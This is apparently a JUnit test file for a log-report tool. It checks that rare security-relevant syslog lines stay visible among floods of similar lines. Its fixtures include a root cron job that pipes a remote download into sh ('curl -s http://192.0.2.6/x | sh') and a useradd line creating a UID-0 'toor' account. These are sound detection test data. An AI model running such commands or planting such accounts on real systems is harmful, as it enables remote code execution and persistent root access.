package dev.logcheck.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.logcheck.audit.Layer;
import java.io.IOException;
import java.io.OutputStream;
import java.util.Random;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;

/** What one user makes a program say buries nothing that it says of another. */
final class BuriedLinesTest {
  private static final String STOLEN = "(root) CMD (curl -s http://192.0.2.6/x | sh)";

  @Test
  void aCronJobOfRootIsSeenAmongThreeHundredOfAUser() {
    Report report = flooded("CRON", "(alice) CMD (/tmp/%s)", "CRON", STOLEN);
    assertSeen("CRON: " + STOLEN, STOLEN, report);
  }

  @Test
  void aCommandOfSudoIsSeenAmongThoseOfAnotherUser() {
    String rest = " : command not allowed ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/";
    String words = "bob : command not allowed ;";
    Report report = flooded("sudo", "alice" + rest + "%s %s %s", "sudo", "bob" + rest + "dd");
    assertSeen("sudo: " + words, words, report);
  }

  @Test
  void whoBecameRootIsSeenAmongManyOtherAttempts() {
    String line = "FAILED SU (to root) bob on pts/3";
    Report report = flooded("su", "FAILED SU (to bob) alice on %s: %s: %s", "su", line);
    assertSeen("su: " + line, line, report);
  }

  @Test
  void aLogInIsSeenAmongNamesThatComeFromTheNetwork() {
    String line = "Accepted password for bob from 192.0.2.8 port 5 ssh2";
    Report report =
        flooded("sshd", "Invalid user root %s: %s (%s) from 192.0.2.7 %s", "sshd", line);
    assertSeen("sshd: " + line, line, report);
  }

  @Test
  void anotherUserOfPamIsSeenBehindTheSameWords() {
    String start = "pam_unix(su:auth): authentication failure; logname=%s uid=%d euid=0 tty=pts/1";
    String line = start.formatted("bob", 1002) + " ruser=bob rhost=  user=root";
    String flood = start.formatted("alice", 1001) + " ruser=alice rhost=%s  %s user=%s (%s)";
    assertSeen("su: pam_unix(su:auth)", "logname=bob", flooded("su", flood, "su", line));
  }

  @Test
  void rootAndARareUserAreSeenAmongAHundredOthers() {
    FakeFindings findings = new FakeFindings();
    Random random = new Random(7);
    for (int user = 0; user < 100; user++) {
      String name = word(random);
      for (int job = 0; job < 3; job++) {
        add(findings, user, "CRON", "(" + name + ") CMD (/tmp/" + words(random) + ")");
      }
    }
    for (int job = 0; job < 5; job++) {
      add(findings, 150, "CRON", "(root) CMD (/tmp/" + words(random) + ")");
    }
    add(findings, 160, "CRON", STOLEN.replace("root", "www-data"));
    Report report = report(findings);
    assertSeen("CRON: (www-data) CMD", "(www-data) CMD", report);
    assertTrue(important(report).contains("CRON: (root) CMD"), important(report));
  }

  @Test
  void theLineOfAProgramStandsAboveItsEntriesWhicheverTheseAre() {
    Report report = flooded("CRON", "(alice) CMD (/tmp/%s)", "CRON", STOLEN);
    assertTrue(text(report).contains(" CRON: 301 lines in "), text(report));
    assertEquals(1, page(report).select(".program").size());
  }

  @Test
  void theSubjectNamesRootAndNotTheFlood() throws IOException {
    Report report = flooded("CRON", "(alice) CMD (/tmp/%s)", "CRON", STOLEN);
    assertEquals("CRON: " + STOLEN, subject(report));
  }

  @Test
  void theSubjectNamesTheProgramThatWasNotFlooded() throws IOException {
    String line = "new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash";
    Report report = flooded("CRON", "(alice) CMD (/tmp/%s)", "useradd", line);
    assertEquals("useradd: " + line, subject(report));
  }

  private static String subject(Report report) throws IOException {
    return Samples.summaries().headline(report).mostTelling();
  }

  /** Three hundred lines that have but their first words in common, and one of another kind. */
  private static Report flooded(String program, String flood, String rare, String line) {
    FakeFindings findings = new FakeFindings();
    Random random = new Random(7);
    for (int i = 0; i < 300; i++) {
      add(findings, i, program, filled(flood, random));
    }
    return report(add(findings, 250, rare, line));
  }

  private static FakeFindings add(FakeFindings findings, int second, String program, String line) {
    String header = "Nov  9 12:00:00 web1 " + program + "[7]: ";
    return findings.add(Samples.NOON + second * 1_000_000L, header + line);
  }

  private static Report report(FakeFindings findings) {
    return Reports.of(new Report.Section(Layer.CRACKING, "Security Alerts", findings));
  }

  private static String filled(String text, Random random) {
    String filled = text;
    while (filled.contains("%s")) {
      filled = filled.replaceFirst("%s", words(random));
    }
    return filled;
  }

  private static String words(Random random) {
    StringBuilder words = new StringBuilder();
    for (int i = 5 + random.nextInt(9); i > 0; i--) {
      words.append(word(random)).append(i == 1 ? "" : " ");
    }
    return words.toString();
  }

  private static String word(Random random) {
    StringBuilder word = new StringBuilder();
    for (int i = 3 + random.nextInt(6); i > 0; i--) {
      word.append((char) ('a' + random.nextInt(26)));
    }
    return word.toString();
  }

  /** In the important lines and in the section, of the text and of the page. */
  private static void assertSeen(String important, String words, Report report) {
    assertTrue(important(report).contains(important), important(report));
    String text = text(report);
    String section = text.substring(text.indexOf("Security Alerts\n"));
    assertTrue(section.replaceAll("\\s+", " ").contains(words), section);
    Document page = page(report);
    assertTrue(page.select(".important").text().contains(words), page.select(".important").text());
    assertTrue(page.select(".section").text().contains(words), page.select(".section").text());
  }

  private static String important(Report report) {
    String text = text(report);
    return text.substring(text.indexOf("Important"), text.indexOf("Security Alerts\n"));
  }

  private static String text(Report report) {
    return Reports.limited(report, Samples.summaries());
  }

  private static Document page(Report report) {
    return Jsoup.parse(Reports.text(BuriedLinesTest::writePage, report));
  }

  private static void writePage(Report report, OutputStream out) throws IOException {
    LimitedReport.html(report, Samples.summaries()).write("It is kept.", out);
  }
}
